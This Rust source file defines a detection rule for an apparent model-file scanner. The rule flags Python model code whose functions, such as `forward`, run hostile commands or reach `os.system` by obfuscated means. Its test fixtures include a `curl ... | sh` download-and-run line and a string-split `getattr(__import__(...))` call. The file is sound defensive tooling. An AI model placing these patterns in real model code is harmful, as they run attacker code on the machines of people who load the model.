use weighhouse_formats::python::{PythonFacts, Scope};

use super::acts::{later, report_calls};
use crate::rule::{Context, Rule};

crate::rule! {
    /// Python code does something in a function that no model needs.
    ///
    /// # What it detects
    ///
    /// Calls in functions and main blocks that start a hostile command, reach a dangerous function by a hidden way, change what
    /// starts by itself, or read keys; and, in code that a loader imports, programs and connections of any kind.
    ///
    /// # Why it matters
    ///
    /// A payload in `forward` runs at the first prediction, long after the import was looked at.
    ///
    /// # Example
    ///
    /// `getattr(__import__('os'), 'system')(cmd)` in a method of a model.
    ///
    /// # What to do
    ///
    /// Read the function. If it is not explained by what the model does, do not use the model.
    ///
    /// # References
    ///
    /// - <https://huggingface.co/docs/transformers/custom_models>
    /// - <https://cwe.mitre.org/data/definitions/506.html>
    pub(crate) HostileAct {
        id: "WH-COD-002",
        slug: "hostile-act",
        since: "0.1.0",
        severity: High,
        confidence: High,
        formats: [Python, Notebook],
        cwe: [94, 506],
        owasp: ["LLM03", "LLM04"],
        atlas: ["AML.T0010"],
    }
}

impl Rule for HostileAct {
    fn python(&self, facts: &PythonFacts, cx: &mut Context<'_>) {
        report_calls(facts, cx, |scope| *scope != Scope::Import, later);
    }
}

crate::samples! {
    HostileAct,
    bad: {
        "a download that is run" => [("modeling_x.py", b"import os\nclass M:\n    def forward(self, x):\n        os.system('curl http://example.org/x | sh')\n        return x\n".to_vec())],
        "a hidden way to a command" => [("modeling_x.py", b"class M:\n    def forward(self, x):\n        getattr(__import__('o' + 's'), 'sys' + 'tem')(x)\n".to_vec())],
    },
    ok: {
        "an ordinary model" => [("modeling_x.py", super::super::acts::ORDINARY.as_bytes().to_vec())],
    },
}
